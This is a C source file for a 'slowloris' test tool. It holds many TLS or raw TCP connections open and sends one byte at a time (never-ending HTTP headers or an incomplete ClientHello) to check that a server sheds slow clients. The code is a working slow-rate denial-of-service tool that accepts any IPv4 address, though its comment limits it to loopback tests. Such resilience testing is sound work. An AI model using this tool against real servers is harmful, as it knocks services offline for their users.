/*
 * slowloris: holds many connections to a server and feeds them slowly.
 *
 *	slowloris [-m tls|raw|idle] [-b SRC] [-n CONNS] [-i MS] [-t SECS]
 *	    ADDR PORT
 *
 * Opens CONNS connections to ADDR:PORT (IPv4 literal) from the local
 * address SRC (another loopback address stands for another client), then
 * for SECS seconds sends one byte on each open connection every MS
 * milliseconds: with -m tls (default), after a TLS handshake (nothing is
 * verified: this is the attacker), an HTTP request whose headers never
 * end; with -m raw, a TLS record header and then bytes of a ClientHello
 * that never completes; with -m idle, nothing at all.  A connection the
 * server closes is counted and not reopened.  Prints one
 * line:
 *
 *	opened O refused R closed C first_close_ms F open_at_end E peak P
 *
 * (F is -1 when none was closed).  P is the most connections the server
 * held open at once while they were being opened: a server that closes
 * its oldest half-open connections under load lets a later one in, so
 * O can exceed a per-address cap that P never does.  Exit 0, 64 usage, 71 setup failure.
 * Only for tests (tests/e2e/test_fault_flood.sh) on loopback.
 */
#include <sys/socket.h>
#include <sys/types.h>

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#define SL_MAX		1024
#define SL_HS_MS	3000	/* handshake bound per connection */

enum sl_mode { SL_TLS, SL_RAW, SL_IDLE };

struct sl_conn {
	int	 fd;
	SSL	*ssl;
	size_t	 sent;
	int	 open;
};

static const char sl_request[] = "POST /v1/report HTTP/1.1\r\n"
    "Host: muster\r\nContent-Type: application/json\r\n";

static long long
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* The next byte a connection sends: the request, then endless headers. */
static char
sl_byte(enum sl_mode mode, size_t i)
{
	static const char hello[] = { 0x16, 0x03, 0x01, 0x02, 0x00, 0x01,
	    0x00, 0x01, 0xfc, 0x03, 0x03 };
	static const char more[] = "X-Slow: a\r\n";

	if (mode == SL_RAW)
		return i < sizeof hello ? hello[i] : (char)(i & 0x7f);
	if (i < sizeof sl_request - 1)
		return sl_request[i];
	return more[(i - (sizeof sl_request - 1)) % (sizeof more - 1)];
}

static int
sl_connect(const struct sockaddr_in *dst, const struct sockaddr_in *src)
{
	struct timeval tv = { SL_HS_MS / 1000, 0 };
	int fd;

	if ((fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	if ((src != NULL && bind(fd, (const struct sockaddr *)src,
	    sizeof *src) == -1) || connect(fd, (const struct sockaddr *)dst,
	    sizeof *dst) == -1) {
		close(fd);
		return -1;
	}
	return fd;
}

static void
sl_close(struct sl_conn *c)
{
	if (c->ssl != NULL)
		SSL_free(c->ssl);
	if (c->fd != -1)
		close(c->fd);
	c->ssl = NULL;
	c->fd = -1;
	c->open = 0;
}

/*
 * 1 when the server has shut c down (whatever it wrote before: a TLS
 * 1.3 server sends its session tickets after the handshake, which is
 * no answer).
 */
static int
sl_shut(const struct sl_conn *c)
{
	struct pollfd p = { c->fd, POLLRDHUP, 0 };

	return poll(&p, 1, 0) == 1 &&
	    (p.revents & (POLLRDHUP | POLLHUP | POLLERR | POLLNVAL)) != 0;
}

static int
usage(void)
{
	fprintf(stderr, "usage: slowloris [-m tls|raw|idle] [-b SRC] "
	    "[-n CONNS] [-i MS] [-t SECS] ADDR PORT\n");
	return 64;
}

int
main(int argc, char **argv)
{
	static struct sl_conn conns[SL_MAX];
	struct sockaddr_in dst, src, *srcp = NULL;
	enum sl_mode mode = SL_TLS;
	SSL_CTX *ctx = NULL;
	long long start, end, first = -1, next;
	long n = 8, interval = 500, secs = 5, i;
	long opened = 0, refused = 0, closed = 0, still = 0, peak = 0;
	long held, j;
	char b;
	int ch;

	while ((ch = getopt(argc, argv, "m:b:n:i:t:")) != -1) {
		switch (ch) {
		case 'm':
			if (strcmp(optarg, "tls") == 0)
				mode = SL_TLS;
			else if (strcmp(optarg, "raw") == 0)
				mode = SL_RAW;
			else if (strcmp(optarg, "idle") == 0)
				mode = SL_IDLE;
			else
				return usage();
			break;
		case 'b':
			memset(&src, 0, sizeof src);
			src.sin_family = AF_INET;
			if (inet_pton(AF_INET, optarg, &src.sin_addr) != 1)
				return usage();
			srcp = &src;
			break;
		case 'n':
			n = atol(optarg);
			break;
		case 'i':
			interval = atol(optarg);
			break;
		case 't':
			secs = atol(optarg);
			break;
		default:
			return usage();
		}
	}
	if (argc - optind != 2 || n < 1 || n > SL_MAX || interval < 1 ||
	    secs < 0 || secs > 600)
		return usage();
	memset(&dst, 0, sizeof dst);
	dst.sin_family = AF_INET;
	dst.sin_port = htons((unsigned short)atoi(argv[optind + 1]));
	if (inet_pton(AF_INET, argv[optind], &dst.sin_addr) != 1 ||
	    dst.sin_port == 0)
		return usage();
	signal(SIGPIPE, SIG_IGN);
	if (mode == SL_TLS && (ctx = SSL_CTX_new(TLS_client_method())) ==
	    NULL) {
		fprintf(stderr, "slowloris: SSL_CTX_new failed\n");
		return 71;
	}
	start = now_ms();
	for (i = 0; i < n; i++) {
		struct sl_conn *c = &conns[i];

		c->fd = sl_connect(&dst, srcp);
		c->ssl = NULL;
		if (c->fd == -1) {
			refused++;
			continue;
		}
		if (mode == SL_TLS && ((c->ssl = SSL_new(ctx)) == NULL ||
		    SSL_set_fd(c->ssl, c->fd) != 1 ||
		    SSL_connect(c->ssl) != 1)) {
			ERR_clear_error();
			sl_close(c);
			refused++;
			continue;
		}
		c->open = 1;
		opened++;
		for (held = 0, j = 0; j <= i; j++)
			if (conns[j].open && !sl_shut(&conns[j]))
				held++;
		if (held > peak)
			peak = held;
	}
	end = start + secs * 1000;
	for (next = now_ms(); now_ms() < end; next += interval) {
		for (i = 0; i < n; i++) {
			struct sl_conn *c = &conns[i];
			int bad = 0;

			if (!c->open)
				continue;
			if (sl_shut(c))
				bad = 1;
			else if (mode != SL_IDLE) {
				b = sl_byte(mode, c->sent);
				if (mode == SL_TLS)
					bad = SSL_write(c->ssl, &b, 1) != 1;
				else
					bad = send(c->fd, &b, 1,
					    MSG_NOSIGNAL) != 1;
				c->sent++;
			}
			if (bad) {
				ERR_clear_error();
				if (first == -1)
					first = now_ms() - start;
				closed++;
				sl_close(c);
			}
		}
		while (now_ms() < next + interval && now_ms() < end)
			usleep(10000);
	}
	for (i = 0; i < n; i++)
		if (conns[i].open) {
			still++;
			sl_close(&conns[i]);
		}
	printf("opened %ld refused %ld closed %ld first_close_ms %lld "
	    "open_at_end %ld peak %ld\n", opened, refused, closed, first,
	    still, peak);
	SSL_CTX_free(ctx);
	return 0;
}
